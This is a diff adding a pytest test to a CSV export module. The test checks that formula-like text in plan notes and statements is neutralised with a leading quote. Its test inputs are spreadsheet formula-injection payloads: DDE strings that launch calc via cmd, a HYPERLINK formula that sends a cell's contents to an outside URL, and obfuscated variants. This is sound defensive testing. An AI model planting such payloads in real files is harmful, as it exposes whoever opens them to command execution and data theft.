@@ -4,6 +4,8 @@ import csv
 import io
 from decimal import Decimal
 
+import pytest
+
 from goaltui.core.plan import Department, Kpi, Node, Person, Team, empty_plan
 from goaltui.formats.csv import COLUMNS, write_csv
 
@@ -51,6 +53,37 @@ def test_names_dates_and_exact_numbers():
     )
     assert (row["baseline"], row["target"], row["deadline"]) == ("-1000", "0.1", "2027-03-31")
     assert (row["hours"], row["start"]) == ("", "")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "\ufeff=1",
+        "\u202e=1",
+        "\x00=1",
+        " =1",
+        '"=1"',
+        "'=1",
+        "＝1",
+        "＠SUM",
+        '=HYPERLINK("https://example.org?x="&A1)',
+        "=cmd|'/C calc'!'A1'",
+    ],
+)
+def test_what_a_spreadsheet_would_reckon_is_text(text):
+    node = Node(id="n", kind="goal", position="V", notes=text, statement=text, market=f"a{text}")
+    plan = empty_plan("P", 2027).put(node)
+    (row,) = csv.DictReader(io.StringIO(write_csv(plan), newline=""))
+    assert row["notes"].startswith("'")
+    assert row["statement"].startswith("'")
+    assert row["market"].startswith("a")
 
 
 def test_no_text_becomes_a_formula():
